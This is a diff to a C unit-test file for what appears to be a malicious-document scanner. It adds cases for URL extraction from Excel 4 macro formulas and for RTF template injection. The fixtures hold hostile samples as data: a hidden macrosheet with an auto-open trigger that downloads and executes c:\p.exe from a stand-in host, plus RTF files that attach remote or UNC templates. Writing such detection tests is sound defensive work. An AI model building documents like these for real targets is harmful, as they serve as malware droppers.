@@ -432,7 +432,11 @@ test_made_xlsm(void **state)
 		"<?xml version=\"1.0\"?><xm:macrosheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" "
 		"xmlns:xm=\"http://schemas.microsoft.com/office/excel/2006/main\"><sheetData>"
 		"<row r=\"2\"><c r=\"B2\"><f>CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",0,\"http://example.invalid/p\",\"c:\\p.exe\",0,0)</f></c>"
-		"<c r=\"B3\"><f>EXEC(&quot;c:\\p.exe&quot;)</f></c><c r=\"B4\"><f>HALT()</f></c></row></sheetData></xm:macrosheet>",
+		"<c r=\"B3\"><f>EXEC(&quot;c:\\p.exe&quot;)</f></c>"
+		/* literals joined by &, a quote doubled inside a literal */
+		"<c r=\"B4\"><f>SET.VALUE(A1,\"https://\" &amp; \"joined.example/x.exe\")</f></c>"
+		"<c r=\"B5\"><f>ALERT(\"see \"\"https://quoted.example/a\"\", then \"&amp;A1)</f></c>"
+		"<c r=\"B6\"><f>HALT()</f></c></row></sheetData></xm:macrosheet>",
 	};
 
 	(void)state;
@@ -443,7 +447,8 @@ test_made_xlsm(void **state)
 	    "XLM_SUSPICIOUS_FORMULA(xl/worksheets/sheet2.xml: CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",0,\"http://example.invalid/p\",\"c:\\p.exe\",0,0))\n"
 	    "XLM_SUSPICIOUS_FORMULA(xl/worksheets/sheet2.xml: EXEC(\"c:\\p.exe\"))\n"
 	    "XLM_HIDDEN_SHEET(Mac, veryHidden)\n"
-	    "XLM_AUTOEXEC(auto_open21 -> Mac!$B$2)", "");
+	    "XLM_AUTOEXEC(auto_open21 -> Mac!$B$2)",
+	    "http://example.invalid/p\nhttps://joined.example/x.exe\nhttps://quoted.example/a");
 	obj_tree_free(t);
 	g_byte_array_unref(z);
 }
@@ -543,6 +548,35 @@ test_rtf_made(void **state)
 	obj_tree_free(t);
 }
 
+/*
+ * The attached template ({\*\template ...}): a remote one is the
+ * document's URL and TEMPLATE_INJECTION (escapes undone: \'hh, \\ of a
+ * UNC path); a local one is neither; one left open at the end is read.
+ */
+static void
+test_rtf_template(void **state)
+{
+	(void)state;
+	static const struct {
+		const char *rtf, *facts, *urls;
+	} cases[] = {
+		{ "{\\rtf1{\\*\\template https://rtf-t.example/a\\'2edotm}\\pard x\\par}",
+		  "TEMPLATE_INJECTION(template https://rtf-t.example/a.dotm)",
+		  "https://rtf-t.example/a.dotm" },
+		{ "{\\rtf1{\\*\\template {\\ul \\\\\\\\host\\\\share\\\\t.dotm}}x}",
+		  "TEMPLATE_INJECTION(template \\\\host\\share\\t.dotm)",
+		  "\\\\host\\share\\t.dotm" },
+		{ "{\\rtf1{\\*\\template C:\\\\Users\\\\me\\\\Normal.dotm}x}", "", "" },
+		{ "{\\rtf1{\\*\\template  HTTPS://rtf-open.example/b", "TEMPLATE_INJECTION(template HTTPS://rtf-open.example/b)",
+		  "HTTPS://rtf-open.example/b" },
+	};
+	for (size_t i = 0; i < G_N_ELEMENTS(cases); i++) {
+		struct obj_tree *t = build("t.rtf", (const uint8_t *)cases[i].rtf, strlen(cases[i].rtf));
+		expect_root(t, "rtf", cases[i].facts, cases[i].urls);
+		obj_tree_free(t);
+	}
+}
+
 /* Every prefix of the RTFs: no crash, no read past the end (the copy is
  * exactly len bytes, for ASan). */
 static void
@@ -616,6 +650,7 @@ main(void)
 		cmocka_unit_test(test_rtf_issue_251),
 		cmocka_unit_test(test_rtf_clam),
 		cmocka_unit_test(test_rtf_made),
+		cmocka_unit_test(test_rtf_template),
 		cmocka_unit_test(test_rtf_prefixes),
 	};
 	return cmocka_run_group_tests(tests, NULL, NULL);
